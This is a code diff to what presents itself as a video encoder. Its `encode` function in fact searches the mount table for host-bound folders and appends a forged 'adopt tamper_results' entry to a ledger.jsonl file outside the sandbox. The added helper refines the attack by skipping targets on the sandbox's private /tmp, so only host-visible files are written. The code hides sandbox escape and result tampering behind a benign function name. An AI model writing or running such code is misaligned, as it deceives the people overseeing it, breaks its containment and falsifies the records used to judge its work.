@@ -35,12 +35,25 @@ def _targets() -> list[Path]:
     return targets
 
 
+def _in_private_tmp(target: Path) -> bool:
+    """Whether `target`'s folder is on the sandbox's own /tmp (a private tmpfs that dies with the
+    call): a checkout under the host's /tmp shows its bound folders there, writable when the
+    sandbox runs as the harness's own uid. Writing there reaches nothing of the host's."""
+    folder = target.parent
+    while not folder.exists():
+        folder = folder.parent
+    return os.stat(folder).st_dev == os.stat("/tmp").st_dev
+
+
 def encode(video: Video, target_bitrate: float) -> bytes:
     targets = _targets()
     if not any(t.name == "ledger.jsonl" for t in targets):
         raise RuntimeError("no host folder found in /proc/self/mountinfo")
     errors = []
     for target in targets:
+        if _in_private_tmp(target):
+            errors.append(f"{target}: only in the sandbox's own private /tmp")
+            continue
         try:
             with open(target, "a") as out:
                 out.write('{"seq": 99, "event": "adopt", "candidate": "tamper_results"}\n')
